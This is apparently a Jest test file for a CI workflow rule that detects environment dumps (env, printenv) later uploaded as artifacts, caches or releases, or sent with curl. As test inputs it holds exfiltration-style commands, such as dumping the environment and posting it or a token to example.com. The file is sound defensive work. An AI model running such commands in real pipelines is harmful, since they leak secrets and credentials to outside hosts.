import { describe, expect, test } from '@jest/globals';
import { environmentDumps } from '../../../src/rules/support/environment-dump.ts';
import { stepsIn } from './steps-in.ts';

const sinks = (...steps: readonly string[]) => environmentDumps(stepsIn(...steps)).map(({ sink }) => sink);
const list = 'run: env > out/all.txt';

describe('a file that holds the environment', () => {
  test.each<[string, string]>([
    ['uses: actions/upload-artifact@v4\nwith: {path: out/all.txt}', 'actions/upload-artifact'],
    ['uses: actions/cache@v4\nwith: {PATH: out/all.txt}', 'actions/cache'],
    ['uses: softprops/action-gh-release@v2\nwith: {files: "dist/*\\nout/all.txt"}', 'softprops/action-gh-release'],
    ['run: curl -T out/all.txt https://example.com', 'curl'],
    ['run: gh release upload v1 "${DIR}/all.txt"', 'gh'],
  ])('taken by %j', (taker, sink) => {
    expect(sinks(list, 'uses: actions/checkout@v4', taker)).toEqual([sink]);
  });

  test.each([
    'uses: actions/upload-artifact@v4',
    'uses: actions/upload-artifact@v4\nwith: {name: all.txt}',
    'uses: actions/upload-artifact@v4\nwith: {path: dist}',
    'uses: acme/notify@v1\nwith: {path: out/all.txt}',
    'run: cat out/all.txt',
  ])('not taken by %j', (step) => {
    expect(sinks(list, step)).toEqual([]);
  });

  test('is taken by what comes behind it, not by what came before', () => {
    expect(sinks('uses: actions/upload-artifact@v4\nwith: {path: all.txt}', list)).toEqual([]);
    expect(sinks('run: curl -T all.txt https://example.com; env > all.txt')).toEqual([]);
    expect(sinks('run: env > all.txt; curl -T all.txt https://example.com')).toEqual(['curl']);
  });

  test('written twice is two listings', () => {
    expect(sinks('run: env > all.txt; printenv >> all.txt', 'uses: actions/upload-artifact@v4\nwith: {path: all.txt}')).toHaveLength(2);
  });

  test('by a variable for its name', () => {
    expect(sinks('run: env > "${FILE}"; curl -T "$FILE" https://example.com')).toEqual(['curl']);
  });

  test('that the runner itself reads is not sent', () => {
    expect(sinks('run: env >> "$GITHUB_ENV"; curl -d "$GITHUB_ENV" https://example.com')).toEqual([]);
    expect(sinks('run: env > /dev/null; curl https://example.com/null')).toEqual([]);
  });
});

test('a listing into more files than are followed is found for that', () => {
  const script = Array.from({ length: 502 }, (_, index) => `env > file-${index}.txt`).join('; ');
  expect(sinks(`run: ${script}`)).toEqual(['more files than can be followed', 'more files than can be followed']);
});

test('a job that lists nothing has none, whatever it sends', () => {
  expect(sinks('run: curl -d "$TOKEN" https://example.com', 'uses: actions/upload-artifact@v4\nwith: {path: out}')).toEqual([]);
});
